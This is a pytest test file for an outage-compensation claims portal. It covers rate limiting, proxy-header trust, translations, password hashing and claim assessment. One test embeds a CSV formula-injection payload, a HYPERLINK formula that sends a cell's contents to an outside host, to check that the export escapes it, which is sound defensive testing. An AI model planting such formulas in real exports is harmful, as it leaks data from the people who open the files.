"""Pure parts of the portal and console: abuse limits, the translation table, form parsing,
roles, verification reasons and the agents' ledger entries."""

import json
from datetime import datetime, timezone

import pytest

from firebreak.claims.edge import anonymous_review_action
from firebreak.claims.i18n import EVIDENCE, LANGS, SERVICES, T, pick_lang
from firebreak.claims.ledger import Outage
from firebreak.claims.limits import client_source
from firebreak.throttle import Buckets
from firebreak.claims.models import REPORTER_KINDS
from firebreak.claims.policy import load_policy
from firebreak.claims.portal import KST, parse_local
from firebreak.claims.reviewers import check_new_user, may, verify_password, hash_password
from firebreak.claims.sources import outages_from_etcd
from firebreak.claims.verify import assess
from tests.conftest import ROOT

KAKAO = load_policy(ROOT / "examples/kakao-2022-policy.yaml")
OCT15 = datetime(2022, 10, 15, 15, 19, tzinfo=KST).timestamp()


def test_buckets_allow_a_burst_then_the_rate():
    b = Buckets(rate=1.0, burst=3)
    assert [b.allow("a", 0.0) for _ in range(4)] == [True, True, True, False]
    assert b.allow("b", 0.0)            # another source has its own bucket
    assert not b.allow("a", 0.5)        # half a token is not enough
    assert b.allow("a", 1.6)            # one token back after a second
    assert Buckets(rate=0, burst=0).allow("x", 0.0)  # rate 0: no limit


def test_buckets_forget_idle_sources_instead_of_growing_forever():
    b = Buckets(rate=1.0, burst=2, max_sources=10)
    for i in range(10):
        b.allow(f"s{i}", 0.0)
    b.allow("new", 100.0)
    assert len(b._state) == 1


@pytest.mark.parametrize("peer,xff,expected", [
    ("10.77.0.11", "203.0.113.9", "203.0.113.9"),              # through our door: the address the door saw
    ("10.77.0.11", "1.2.3.4, 203.0.113.9", "203.0.113.9"),     # only the entry our door appended counts
    ("198.51.100.7", "203.0.113.9", "198.51.100.7"),           # not our door: a forged header is ignored
    ("10.77.0.11", "garbage", "10.77.0.11"),
    (None, None, "unknown"),
])
def test_client_source_believes_only_our_doors(peer, xff, expected):
    assert client_source(peer, xff, frozenset({"10.77.0.11"})) == expected


def test_every_word_exists_in_every_language():
    for key, words in T.items():
        assert set(words) == set(LANGS) and all(words.values()), key
    for kind in REPORTER_KINDS:
        assert f"kind.{kind}" in T
    assert all(f"svc.{s}" in T for s in SERVICES) and all(f"ev.{e}" in T for e in EVIDENCE)
    assert pick_lang(None, None) == "ko" and pick_lang("en", "ko") == "en" and pick_lang("fr", "en") == "en"


def test_form_times_are_korea_time():
    dt = parse_local("2022-10-15T15:19")
    assert dt.utcoffset().total_seconds() == 9 * 3600
    assert dt.astimezone(timezone.utc).hour == 6
    assert parse_local("not a time") == "not a time"  # left for the model to refuse with a field error


def test_roles_are_ordered_and_passwords_are_argon2():
    assert may("approver", "approve") and not may("reviewer", "approve") and may("admin", "export")
    assert may("reviewer", "reject") and not may("approver", "users")
    digest = hash_password("correct horse battery")
    assert digest.startswith("$argon2") and verify_password(digest, "correct horse battery")
    assert not verify_password(digest, "wrong") and not verify_password(None, "anything")
    assert check_new_user("anna", "approver", "x" * 12) == []
    assert len(check_new_user("Anna Smith", "root", "short")) == 3


@pytest.mark.parametrize("kind,claimed,start_h,end_h,dup,expected_amount,expected_flags", [
    ("channel_shop", 250_000, 0, 6, False, 30_000, ()),                       # tier 1
    ("channel_shop", 450_000, 0, 6, False, 50_000, ()),                       # tier 2
    ("channel_shop", 250_000, 0, 6, True, 30_000, ("duplicate",)),
    ("channel_shop", 250_000, 400, 406, False, 0, ("outside-outage",)),       # weeks later: nothing verified
    ("paid_user", 500_000, 0, 6, False, 1_000, ("over-value",)),              # fee 0 on file: the minimum, far below
])
def test_assessment_of_a_report(kind, claimed, start_h, end_h, dup, expected_amount, expected_flags):
    outages = [Outage("messenger", OCT15, OCT15 + 10 * 3600)]
    a = assess(KAKAO, outages, reporter_kind=kind, service="messenger", start=OCT15 + start_h * 3600,
               end=OCT15 + end_h * 3600, claimed_amount=claimed, duplicate=dup, monthly_fee=0)
    assert a.amount == expected_amount and a.flags == expected_flags
    assert a.clean == (not expected_flags)
    assert any("rule" in r for r in a.reasons)


def test_agents_ledger_entries_are_outages_of_every_service():
    got = outages_from_etcd([{"site": "pangyo", "start": 100.0, "end": 160.0},
                             {"site": "ansan", "start": 200.0, "end": None},   # still open: until now
                             {"site": "broken"}], now=300.0)
    assert got == [Outage("*", 100.0, 160.0, "pangyo", "agent"), Outage("*", 200.0, 300.0, "ansan", "agent")]


def test_exported_cells_never_become_spreadsheet_formulas():
    import csv
    import io

    from firebreak.claims.review import export_csv

    row = {"receipt": "R-1", "reporter_kind": "individual", "service": "messenger",
           "contact": '=HYPERLINK("http://x/?"&D2,"y")&"@a.b"', "amount": 30000, "goodwill": "", "rule": "r1",
           "decided_by": "@anna", "decided_at": None}
    phone = dict(row, contact="+82 10-1234-5678")
    out = list(csv.reader(io.StringIO(export_csv([row, phone], "KRW"))))
    assert out[1][3].startswith("'=HYPERLINK") and out[1][8] == "'@anna"
    assert out[2][3] == "'+82 10-1234-5678" and out[2][4] == "30000"  # amounts stay numbers


def test_contact_keys_are_64_bit_and_normalised():
    from firebreak.claims.io import contact_key

    assert contact_key(" Anna@Example.com ") == contact_key("anna@example.com")
    keys = {contact_key(f"user{i}@example.com") for i in range(200_000)}
    assert len(keys) == 200_000  # no false pair in 200k (a 32-bit CRC expects about 5 here)
    assert all(-(2**63) <= k < 2**63 for k in list(keys)[:100])


def test_anonymous_refusals_are_summarised_at_most_once_a_period():
    from firebreak.claims.review import AnonymousTally

    t = AnonymousTally(every=60)
    first = t.note("login", "10.0.0.1", now=0.0)
    assert first == {"count": 1, "actions": {"login": 1}, "sources": 1, "seconds": 0.0}
    assert all(t.note("bulk-approve", f"10.0.0.{i % 7}", now=1.0 + i) is None for i in range(50))
    later = t.note("export", "10.0.0.9", now=61.0)
    assert later == {"count": 51, "actions": {"bulk-approve": 50, "export": 1}, "sources": 8, "seconds": 60.0}
    assert t.note("export", "x", now=62.0) is None  # a new period starts


@pytest.mark.parametrize("idle_for,expected", [(0.0, 50), (0.5, 50), (1.0, 500), (600.0, 500), (float("inf"), 500)])
def test_the_verifier_takes_a_small_share_while_reports_arrive(idle_for, expected):
    from firebreak.claims.review import VERIFY_BATCH, VERIFY_BUSY_BATCH, verify_batch
    assert (VERIFY_BATCH, VERIFY_BUSY_BATCH) == (500, 50)
    assert verify_batch(1000.0, 1000.0 - idle_for) == expected


@pytest.mark.parametrize("method, path, cookie, expected", [
    ("POST", "/review/bulk-approve", None, "bulk-approve"),
    ("POST", "/review/reports/42/decide", b"lang=ko", "decide"),
    ("POST", "/review/bulk-approve", b"lang=ko; firebreak_review=abc", None),  # a session: the route decides
    ("GET", "/review/bulk-approve", None, None),
    ("POST", "/review/login", None, None),    # signing in needs no session
    ("POST", "/review/logout", None, None),
    ("POST", "/review/reports/x/decide", None, None),
    ("POST", "/review/bulk-approve/extra", None, None),
    ("POST", "/api/reports", None, None),
])
def test_the_edge_refuses_reviewer_actions_without_a_session(method, path, cookie, expected):
    assert anonymous_review_action(method, path, cookie) == expected


GOOD_REPORT = {"reporter_kind": "free_user", "service": "messenger", "claimed_amount": 0, "contact": "010-1234-5678",
               "window_start": "2022-10-15T15:30:00+09:00", "window_end": "2022-10-15T22:00:00+09:00"}


@pytest.mark.parametrize("change, field, words", [
    # year 1 at +01:00 is year 0 in UTC: the stored row came back unreadable, heard as "outcome unknown" (503)
    ({"window_start": "0001-01-01T00:02:08+01:00"}, "window_start", "out of range once converted to UTC"),
    ({"window_end": "9999-12-31T23:00:00-05:00"}, "window_end", "out of range once converted to UTC"),
    ({"window_start": "2022-10-15T15:30:00"}, "body", "need a time zone"),
    ({"window_end": "2022-10-15T15:00:00+09:00"}, "body", "after window_start"),
])
def test_a_damage_window_is_refused_by_field_when_it_cannot_be_true(change, field, words):
    from pydantic import ValidationError

    from firebreak.claims.app import invalid
    from firebreak.claims.models import ReportIn

    ReportIn.model_validate(GOOD_REPORT)
    with pytest.raises(ValidationError) as e:
        ReportIn.model_validate({**GOOD_REPORT, **change})
    errors = json.loads(invalid(e.value).body)["errors"]
    assert any(x["field"] == field and words in x["reason"] for x in errors), errors


@pytest.mark.parametrize("per_minute, burst", [(20, 10), (600, 20), (1, 1)])
def test_a_fresh_source_gets_a_small_burst_then_the_per_minute_rate(per_minute, burst):
    from firebreak.claims.limits import portal_buckets

    b = portal_buckets(per_minute)
    allowed = sum(b.allow("10.0.0.1", 0.0) for _ in range(1000))
    assert allowed == burst  # the lab's 600 a minute no longer means 300 receipt guesses at once
    assert b.allow("10.0.0.1", 60.0 / per_minute)  # one more after a rate's worth of time
